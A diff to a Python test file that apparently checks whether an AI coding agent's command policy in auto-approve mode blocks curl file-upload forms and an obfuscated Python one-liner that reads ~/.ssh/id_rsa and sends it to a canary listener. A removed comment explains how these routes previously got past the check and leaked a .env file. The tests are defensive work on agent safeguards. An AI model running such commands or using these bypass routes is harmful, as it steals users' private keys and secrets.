@@ -158,15 +158,6 @@ async def test_a_user_saying_no_is_asked_only_about_harmless_forms(
     assert_no_leaks(fake_llm, canary_project.listener)
 
 
-ALLOW_MODE_GAP = (
-    "command_policy checks each word of an unmodelled program as a path, but not the path inside 'name=@file', "
-    "'@file', '-d@file' or 'name=<file' (curl's file-upload forms), and allow mode (--yes) auto-approves curl and "
-    "interpreters: the .env reaches the listener. Fix in command_policy._check_every_word (strip '@'/'<' and "
-    "'key=' prefixes, check attached short-option values) and do not auto-approve network clients or interpreters "
-    "in allow mode."
-)
-
-
 def gap_commands(url: str) -> list[Any]:
     obfuscated = (
         "import os,urllib.request as u;p=os.path.expanduser(chr(126))+'/.s'+'sh/id_'+'rsa';"
@@ -183,10 +174,10 @@ def gap_commands(url: str) -> list[Any]:
 
 @pytest.mark.parametrize("index", range(5), ids=["curl-F-name=@", "curl-data-binary-@", "curl-d@", "curl-F-<",
                                                  "python3-c"])
-@pytest.mark.xfail(strict=True, reason=ALLOW_MODE_GAP)
 async def test_allow_mode_cannot_upload_a_secret(
     index: int, fake_llm: FakeLLM, canary_project: CanaryProject, canary_key: str, app_log: Path
 ) -> None:
+    """--yes does not unlock curl's file-upload forms or interpreters: they are refused, nothing is sent."""
     application = make_application("anthropic", fake_llm, canary_project.root, approval_mode="allow", record=False)
     command = gap_commands(f"{canary_project.listener.url}/c")[index]
     fake_llm.script(Reply(tools=[Tool("executeFilePathCommand", {"command": command})]), Reply(text="done"))
